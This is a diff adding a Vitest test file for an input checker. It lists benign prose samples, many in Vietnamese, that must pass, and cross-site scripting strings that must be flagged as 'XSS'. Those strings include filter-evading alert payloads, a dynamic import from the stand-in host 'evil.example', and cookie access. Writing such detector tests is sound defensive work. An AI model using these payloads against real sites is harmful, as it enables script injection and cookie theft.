@@ -1,0 +1,32 @@
+import { expect, test } from 'vitest'
+import { checkInput } from '../check-input.ts'
+
+const codes = (text: string) => checkInput('general', text).errors.map(({ code }) => code)
+
+test.each([
+  'Mocha:2 đôi',
+  'Màu đẹp nhất là Mocha:',
+  'Váy (đỏ), top (trắng)',
+  "Áo 'Elsa' top (M) còn không?",
+  "Hàng 'xách tay', import (Nhật)",
+  'Giày nữ (mới), top (10)',
+  'with a dynamic `import()`',
+  'comfort < style',
+  'subject < object',
+  'a < style and b > c',
+  'Attach the document.Write me back',
+  'Shop at the top.Location is great',
+])('“%s” is prose', (text) => expect(codes(text)).toEqual([]))
+
+test.each([
+  '< script >',
+  '< / script >',
+  '< object data=x >',
+  '< style >',
+  '<object',
+  "'-alert (1)-'",
+  "';top['al'+'ert'](1)//",
+  "';import('//evil.example')//",
+  'document.cookie',
+  'top.location',
+])('%s is an attack', (text) => expect(codes(text)).toContain('XSS'))
